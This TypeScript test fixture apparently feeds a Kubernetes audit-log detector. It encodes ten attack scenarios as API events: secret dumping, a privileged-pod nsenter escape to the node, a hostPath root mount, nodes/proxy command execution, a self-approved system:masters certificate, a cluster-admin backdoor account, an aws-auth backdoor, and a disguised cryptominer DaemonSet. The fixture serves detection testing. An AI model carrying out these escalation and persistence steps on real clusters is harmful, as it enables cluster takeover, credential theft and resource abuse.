import type { AuditExampleEvent } from "../../packages/sekisho/src/detectors/example.ts";

/** An attack as a stream of requests. */
export interface AttackStory {
  readonly name: string;
  /** Name of the user who is behind it, as the API server knows them. */
  readonly actor: string;
  readonly events: readonly AuditExampleEvent[];
}

const outside = { address: "203.0.113.66", agent: "curl/8.5.0" } as const;
/** From the containers and desks that the credentials belong to. */
const inShop = { address: "10.0.20.7", agent: "curl/8.5.0" } as const;
const inPipeline = { address: "10.0.30.3", agent: "helm/v3" } as const;
const atDesk = { address: "198.51.100.12", agent: "kubectl/v1.36.0 (darwin/arm64) kubernetes/0000000" } as const;
const web = "system:serviceaccount:shop:web";
const deployer = "system:serviceaccount:ci:deployer";
const developer = "kim@example.com";
const people = { groups: ["developers", "system:authenticated"] } as const;
const operator = { user: "tom@example.com", groups: ["operators", "system:authenticated"] } as const;

function podOf(container: unknown, spec: Readonly<Record<string, unknown>> = {}): unknown {
  return { spec: { containers: [container], ...spec } };
}

/** Ten attacks, each as somebody would carry it out who has the credentials of its actor. */
export const attackStories: readonly AttackStory[] = [
  {
    name: "secret dump",
    actor: web,
    events: [
      {
        ...inShop,
        user: web,
        verb: "create",
        resource: "selfsubjectrulesreviews.authorization.k8s.io",
        level: "Metadata",
      },
      { ...inShop, user: web, verb: "list", resource: "secrets", namespace: "shop", level: "Metadata" },
      {
        ...inShop,
        user: web,
        verb: "get",
        resource: "secrets",
        namespace: "shop",
        name: "key-#",
        times: 25,
        level: "Metadata",
      },
    ],
  },
  {
    name: "token theft",
    actor: "system:serviceaccount:billing:web",
    events: [
      { ...outside, user: "system:serviceaccount:billing:web", verb: "get", uri: "/apis", level: "Metadata" },
      {
        ...outside,
        user: "system:serviceaccount:billing:web",
        verb: "get",
        resource: "configmaps",
        namespace: "billing",
        name: "settings",
        level: "Metadata",
      },
    ],
  },
  {
    name: "privileged pod",
    actor: developer,
    events: [
      {
        ...people,
        ...atDesk,
        user: developer,
        verb: "create",
        resource: "pods",
        namespace: "billing",
        name: "debug",
        request: podOf(
          { name: "a", image: "docker.io/library/alpine", securityContext: { privileged: true } },
          { hostPID: true },
        ),
      },
      {
        ...people,
        ...atDesk,
        user: developer,
        verb: "create",
        resource: "pods/exec",
        namespace: "billing",
        name: "debug",
        uri: "?command=nsenter&command=-t&command=1&command=-m&command=sh",
      },
    ],
  },
  {
    name: "hostPath escape",
    actor: deployer,
    events: [
      {
        ...inPipeline,
        user: deployer,
        verb: "create",
        resource: "deployments.apps",
        namespace: "shop",
        name: "cache",
        request: {
          spec: {
            template: podOf(
              { name: "a", image: "docker.io/someone/tool", volumeMounts: [{ name: "host", mountPath: "/host" }] },
              { volumes: [{ name: "host", hostPath: { path: "/" } }] },
            ),
          },
        },
      },
    ],
  },
  {
    name: "nodes/proxy",
    actor: "system:serviceaccount:monitoring:prometheus",
    events: [
      {
        ...outside,
        user: "system:serviceaccount:monitoring:prometheus",
        verb: "get",
        resource: "nodes/proxy",
        name: "worker-1",
        uri: "/api/v1/nodes/worker-1/proxy/pods",
        level: "Metadata",
      },
      {
        ...outside,
        user: "system:serviceaccount:monitoring:prometheus",
        verb: "create",
        resource: "nodes/proxy",
        name: "worker-1",
        uri: "/api/v1/nodes/worker-1/proxy/run/shop/web-0/web?cmd=id",
        level: "Metadata",
      },
    ],
  },
  {
    name: "client certificate",
    actor: operator.user,
    events: [
      {
        ...operator,
        ...outside,
        verb: "create",
        resource: "certificatesigningrequests.certificates.k8s.io",
        name: "helper",
        request: {
          spec: {
            signerName: "kubernetes.io/kube-apiserver-client",
            usages: ["client auth"],
            groups: ["system:masters"],
          },
        },
      },
      {
        ...operator,
        ...outside,
        verb: "update",
        resource: "certificatesigningrequests.certificates.k8s.io/approval",
        name: "helper",
        request: {
          spec: { signerName: "kubernetes.io/kube-apiserver-client" },
          status: { conditions: [{ type: "Approved" }] },
        },
      },
    ],
  },
  {
    name: "administrator role",
    actor: operator.user,
    events: [
      {
        ...operator,
        ...atDesk,
        address: "198.51.100.11",
        verb: "create",
        resource: "serviceaccounts",
        namespace: "kube-system",
        name: "metrics-helper",
        request: {},
      },
      {
        ...operator,
        ...atDesk,
        address: "198.51.100.11",
        verb: "create",
        resource: "clusterrolebindings.rbac.authorization.k8s.io",
        name: "metrics-helper",
        request: {
          roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
          subjects: [{ kind: "ServiceAccount", name: "metrics-helper", namespace: "kube-system" }],
        },
      },
      {
        ...operator,
        ...atDesk,
        address: "198.51.100.11",
        verb: "create",
        resource: "serviceaccounts/token",
        namespace: "kube-system",
        name: "metrics-helper",
        request: { spec: { expirationSeconds: 31_536_000 } },
      },
    ],
  },
  {
    name: "aws-auth back door",
    actor: operator.user,
    events: [
      {
        ...operator,
        ...outside,
        verb: "patch",
        resource: "configmaps",
        namespace: "kube-system",
        name: "aws-auth",
        request: {
          data: {
            mapUsers: "- userarn: arn:aws:iam::000000000000:user/x\n  username: x\n  groups: [system:masters]\n",
          },
        },
      },
    ],
  },
  {
    name: "anonymous access",
    actor: "system:anonymous",
    events: [
      { ...outside, user: "system:anonymous", verb: "get", uri: "/api/v1", code: 403, level: "Metadata" },
      { ...outside, user: "system:anonymous", verb: "list", resource: "pods", namespace: "shop", level: "Metadata" },
      { ...outside, user: "system:anonymous", verb: "list", resource: "secrets", namespace: "shop", level: "Metadata" },
    ],
  },
  {
    name: "miner as a DaemonSet",
    actor: deployer,
    events: [
      {
        ...inPipeline,
        user: deployer,
        verb: "create",
        resource: "daemonsets.apps",
        namespace: "kube-system",
        name: "kube-controller",
        request: {
          spec: {
            template: podOf({
              name: "a",
              image: "docker.io/someone/xmrig:latest",
              args: ["--url", "stratum+tcp://pool.example.net:3333"],
              securityContext: { privileged: true },
            }),
          },
        },
      },
    ],
  },
];
